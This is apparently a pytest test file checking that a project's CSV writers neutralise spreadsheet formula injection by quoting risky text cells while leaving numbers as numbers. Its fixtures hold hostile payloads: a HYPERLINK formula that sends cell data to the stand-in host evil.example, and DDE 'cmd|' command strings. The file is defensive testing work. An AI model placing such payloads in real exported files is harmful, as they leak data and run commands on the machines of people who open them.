"""CSV cells a spreadsheet cannot run (issue 22 item 3), in the rule's function and in every CSV the project writes.

The rule's source: OWASP, "CSV Injection" (cells starting with =, +, -, @, tab, carriage return are read as formulas;
prefix a single quote) and ASVS 5.0 requirement 1.2.10. The expected cells below are written out by hand from that
rule; numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from models.csv_safety import neutralise_cell, neutralise_formulas

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'

CELLS = [
    (HOSTILE, "'" + HOSTILE),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-Smith 2020", "'-Smith 2020"),
    ("- 1", "'- 1"),
    ("-", "'-"),
    ("-0.5", "-0.5"),  # a number written as text: a spreadsheet reads the number, nothing runs
    ("+1e-3", "+1e-3"),
    ("-.5", "-.5"),
    ("Smith = 2020", "Smith = 2020"),
    ("'=already quoted", "'=already quoted"),
    ("\u22120.5", "\u22120.5"),  # a Unicode minus does not start a formula
    ("", ""),
]


@pytest.mark.parametrize(("cell", "expected"), CELLS)
def test_a_text_cell_that_would_start_a_formula_gets_a_quote(cell, expected) -> None:
    assert neutralise_cell(cell) == expected


def test_non_text_cells_are_untouched() -> None:
    for value in (-0.5, -1, None, float("nan"), True, np.float64(-2.5)):
        assert neutralise_cell(value) is value


def test_a_frame_keeps_its_numbers_and_quotes_its_text() -> None:
    frame = pd.DataFrame({
        "label": [cell for cell, _ in CELLS],
        "estimate": np.linspace(-0.5, 0.5, len(CELLS)),
        "k": range(-3, len(CELLS) - 3),
        "mixed": [-0.5, "=1+1", None, *(["x"] * (len(CELLS) - 3))],
    })  # fmt: skip
    safe = neutralise_formulas(frame)
    assert list(safe["label"]) == [expected for _, expected in CELLS]
    assert safe["estimate"].dtype == frame["estimate"].dtype and safe["estimate"].equals(frame["estimate"])
    assert safe["k"].equals(frame["k"])
    assert list(safe["mixed"][:3]) == [-0.5, "'=1+1", None]
    assert frame["label"][0] == HOSTILE, "the input frame is not changed"
    first, second = list(csv.DictReader(io.StringIO(safe.to_csv(index=False), newline="")))[:2]
    assert (first["estimate"], first["mixed"], second["mixed"]) == ("-0.5", "-0.5", "'=1+1")  # bare numbers


@pytest.mark.parametrize("kind", [pa.RecordBatch, pa.Table])
def test_an_arrow_batch_follows_the_same_rule(kind) -> None:
    cells = [cell for cell, _ in CELLS]
    data = kind.from_pydict({
        "label": [*cells, None],
        "estimate": [-0.5] * (len(cells) + 1),
        "flag": [True] * (len(cells) + 1),
    })  # fmt: skip
    safe = neutralise_formulas(data)
    assert safe.schema == data.schema
    assert safe.column("label").to_pylist() == [*(expected for _, expected in CELLS), None]
    assert safe.column("estimate").to_pylist() == [-0.5] * (len(cells) + 1)


# ---------------------------------------------------------------- every CSV writer


def _cells(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_batch_results_csv_quotes_ids_and_keeps_parquet_raw(tmp_path, capsys) -> None:
    from models.atomic import release_output_folder
    from models.batch.cli import main

    manifest = tmp_path / "manifest.csv"
    with open(manifest, "w", newline="") as handle:
        csv.writer(handle).writerows([
            ["id", "path", "measure", "higher_is_benefit"],
            [HOSTILE, ROOT / "data" / "corpus" / "bcg.csv", "OR", "false"],
            ["-normand", ROOT / "tests" / "reference" / "normand1999.csv", "SMD", "false"],
            ["@missing", tmp_path / "missing.csv", "", "false"],
        ])  # fmt: skip
    out = tmp_path / "out"
    assert main([str(manifest), "--results", str(out), "--workers", "0", "--quiet", "--no-report"]) == 0
    release_output_folder(out)
    rows = _cells(out / "results.csv")
    assert {r["analysis"] for r in rows} == {"'" + HOSTILE, "'-normand", "'@missing"}
    assert {r["status"] for r in rows if r["analysis"] == "'@missing"} == {"error"}
    smd = [r for r in rows if r["analysis"] == "'-normand"]
    assert smd and all(float(r["effect_median"]) < 0 and r["effect_median"].startswith("-") for r in smd)  # numbers
    assert float(smd[0]["important_threshold"]) == -0.2
    raw = pq.read_table(out / "results.parquet").column("analysis").to_pylist()
    assert set(raw) == {HOSTILE, "-normand", "@missing"}  # typed table: the ids as given
    capsys.readouterr()


def test_main_job_summary_and_reproduction_csv_are_neutralised(tmp_path, monkeypatch, capsys) -> None:
    from kill_helper import fake_job
    from scripts_loader import reanalyse_main

    import models.msc.outputs as outputs
    import models.msc.runner as runner
    from models.msc.state import RunResult

    for name, fake in fake_job(fits=1, delay=0.0).items():
        monkeypatch.setattr(runner if name == "run_reanalysis" else outputs, name, fake)
    real_table = outputs.reproduction_table

    def hostile_reproduction(dataset):
        records = real_table(dataset)
        return (replace(records[0], document=HOSTILE), *records[1:])

    summary = pd.DataFrame({"analysis": ["-trial", "@doc/mortality"], "effect_median": [-0.25, 0.5]})
    monkeypatch.setattr(outputs, "reproduction_table", hostile_reproduction)
    monkeypatch.setattr(RunResult, "summary", property(lambda self: summary))
    target = tmp_path / "results"
    assert reanalyse_main(["--results", str(target), "--no-progress"]) == 0
    reproduction = _cells(target / "reproduction.csv")
    assert reproduction[0]["document"] == "'" + HOSTILE
    assert all(not r["document"].startswith(("=", "+", "-", "@")) for r in reproduction)
    assert _cells(target / "summary.csv") == [
        {"analysis": "'-trial", "effect_median": "-0.25"},
        {"analysis": "'@doc/mortality", "effect_median": "0.5"},
    ]
    capsys.readouterr()


def test_fit_summary_csv_is_neutralised(tmp_path, monkeypatch) -> None:
    """``reanalyse fit``'s writer, with the run's tables, figures and report replaced by small stand-ins."""
    import models.toolkit.outputs as outputs
    from models.prior_policy import primary_pair
    from models.report.document import Report
    from models.settings import Settings

    pair = primary_pair("OR")
    frame = pd.DataFrame({"analysis": ["-Smith 2020", "all_studies"], "effect_median": [0.5, 0.6]})
    monkeypatch.setattr(outputs, "frame", lambda results: frame)
    monkeypatch.setattr(outputs.figures, "draw_all", lambda run, folder: [])
    monkeypatch.setattr(outputs.report, "build", lambda run, paths: Report("title"))
    run = SimpleNamespace(
        results=[], fits=[], failed_fits=[], wall_seconds=0.0, primary_pair=pair, settings=Settings(seed=1),
        spec=SimpleNamespace(title="title", measure="OR", tau_prior=pair.tau, effect_prior=pair.effect, notes=()),
        quick=True, mcmc=False, exact_file="fits/binomial_normal_exact__primary.nc",
    )  # fmt: skip
    outputs.write_outputs(run, tmp_path)
    assert _cells(tmp_path / "summary.csv") == [
        {"analysis": "'-Smith 2020", "effect_median": "0.5"},
        {"analysis": "all_studies", "effect_median": "0.6"},
    ]
